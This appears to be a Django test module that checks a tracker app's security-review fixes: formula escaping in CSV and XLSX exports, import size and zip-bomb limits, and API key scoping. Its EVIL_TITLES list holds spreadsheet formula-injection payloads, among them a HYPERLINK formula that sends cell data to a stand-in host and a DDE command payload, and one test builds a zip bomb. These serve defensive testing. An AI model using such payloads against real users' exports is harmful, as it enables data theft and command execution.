"""The security review's findings (issue 19), each as the behaviour a user would notice after the fix."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests import factories
from tests.api.conftest import client_with_key
from tracker.models import Activity, ApiClient

pytestmark = pytest.mark.django_db

EVIL_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- 1. Spreadsheet formula injection -----------------------------------------------------------------------

@pytest.mark.parametrize("title", EVIL_TITLES)
def test_the_reports_csv_never_starts_a_cell_with_a_formula(title, activity, viewer):
    Activity.objects.filter(pk=activity.pk).update(title=title, location="=cmd")
    response = _signed_in(viewer).get("/reports/activities.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()[1:])))
    assert rows[0]["title"] == "'" + title
    assert rows[0]["location"] == "'=cmd"
    assert rows[0]["progress"] == "0"  # numbers are left alone


def _admin_export(admin_client, fmt: int) -> bytes:
    from tests.test_admin import HEADERS

    response = admin_client.post(reverse("admin:tracker_activity_export"), {
        "format": str(fmt), "resource": "0", **{f"activityresource_{f}": "on" for f in HEADERS}})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("title", EVIL_TITLES[:4])
def test_the_admin_exports_write_formulas_as_text(title, admin_client, activity):
    import openpyxl

    Activity.objects.filter(pk=activity.pk).update(title=title)
    sheet = tablib.Dataset().load(_admin_export(admin_client, 0).decode("utf-8-sig"), format="csv")
    assert sheet["title"] == ["'" + title]
    book = openpyxl.load_workbook(io.BytesIO(_admin_export(admin_client, 1)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no live formula anywhere
    assert "'" + title in [cell.value for cell in cells]


def test_an_exported_file_imports_back_unchanged(admin_client, activity, presidency, states):
    activity.code = "ex-1"
    activity.title = "-5 days to the summit"
    activity.save()
    exported = _admin_export(admin_client, 0)
    assert b"'-5 days" in exported
    preview = _import(admin_client, exported)
    assert not preview.context["result"].has_errors() and not preview.context["result"].has_validation_errors()
    admin_client.post(reverse("admin:tracker_activity_process_import"), preview.context["confirm_form"].initial)
    activity.refresh_from_db()
    assert activity.title == "-5 days to the summit"


@pytest.fixture
def states(db):
    return [factories.MemberStateFactory(code=c) for c in ("BY", "RU")]


# --- Admin import limits ------------------------------------------------------------------------------------

def _import(admin_client, content: bytes, name: str = "plan.csv", fmt: str = "0"):
    return admin_client.post(
        reverse("admin:tracker_activity_import"),
        {"format": fmt, "resource": "0", "import_file": SimpleUploadedFile(name, content)},
    )


def test_an_import_file_over_the_size_limit_is_refused_before_it_is_read(admin_client, settings, presidency):
    settings.IMPORT_MAX_FILE_BYTES = 2048
    response = _import(admin_client, b"code,title\n" + b"x,y\n" * 1000)
    assert response.status_code == 200
    assert "too large" in response.text and "result" not in response.context
    assert not Activity.objects.exists()


def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused(admin_client, settings, presidency):
    settings.IMPORT_MAX_UNPACKED_BYTES = 100_000
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 5_000_000)  # 5 MB of zeros zip to a few KB
    assert len(bomb.getvalue()) < 20_000
    response = _import(admin_client, bomb.getvalue(), name="plan.xlsx", fmt="1")
    assert "when unpacked" in response.text and "result" not in response.context
    assert not Activity.objects.exists()


# --- 2. A body-limited key never becomes an all-body key ----------------------------------------------------

def test_a_limited_key_whose_bodies_are_cleared_writes_nothing(activity, body, other_body):
    client, key = factories.make_api_client("mod-system", ApiClient.Scope.WRITE, bodies=[body])
    api = client_with_key(key)
    url = f"/api/v1/activities/{activity.pk}/"
    assert api.patch(url, {"location": "Minsk"}, format="json").status_code == 200
    client.bodies.clear()
    response = api.patch(url, {"location": "Brest"}, format="json")
    assert response.status_code == 403
    assert response["Content-Type"].startswith("application/problem+json")
    other = factories.ActivityFactory(priority=activity.priority, responsible_body=other_body)
    assert api.patch(f"/api/v1/activities/{other.pk}/", {"location": "Brest"}, format="json").status_code == 403
    activity.refresh_from_db()
    assert activity.location == "Minsk"


def test_deleting_a_keys_only_body_leaves_it_writing_nothing(priorities, body, other_body):
    spare = factories.BodyFactory(code="by-spare")
    _client, key = factories.make_api_client("spare-system", ApiClient.Scope.WRITE, bodies=[spare])
    spare.delete()
    target = factories.ActivityFactory(priority=priorities[0], responsible_body=other_body)
    response = client_with_key(key).patch(f"/api/v1/activities/{target.pk}/", {"location": "X"}, format="json")
    assert response.status_code == 403


def test_an_all_bodies_key_is_an_explicit_flag(activity):
    client, key = factories.make_api_client("everything", ApiClient.Scope.WRITE, all_bodies=True)
    assert client_with_key(key).patch(f"/api/v1/activities/{activity.pk}/", {"location": "Minsk"},
                                      format="json").status_code == 200
    client.all_bodies = False
    client.save()
    assert client_with_key(key).patch(f"/api/v1/activities/{activity.pk}/", {"location": "Brest"},
                                      format="json").status_code == 403


def test_the_command_asks_for_bodies_or_all_bodies_for_a_write_key(db):
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError, match="--all-bodies"):
        call_command("create_api_client", "vague", "--scope", "write", stdout=io.StringIO(), stderr=io.StringIO())
    call_command("create_api_client", "broad", "--scope", "write", "--all-bodies", stdout=io.StringIO(),
                 stderr=io.StringIO())
    assert ApiClient.objects.get(name="broad").all_bodies


# --- 10. simple-history's revert form -----------------------------------------------------------------------

def test_posting_the_revert_form_changes_nothing_and_is_not_a_server_error(activity, outsider, coordinator):
    from tracker import services
    from tracker.permissions import Actor

    services.activity_update(actor=Actor.for_user(coordinator), activity=activity, changes={"location": "Minsk"})
    old = activity.history.order_by("history_id").first()
    url = reverse("admin:tracker_activity_simple_history", args=[activity.pk, old.history_id])
    for user in (outsider, coordinator):
        response = _signed_in(user).post(url, {"title": "Reverted", "location": ""})
        assert response.status_code == 403
    activity.refresh_from_db()
    assert (activity.title, activity.location) == ("Joint exercises in Belarus", "Minsk")
    assert _signed_in(coordinator).get(url).status_code == 200  # old versions can still be read
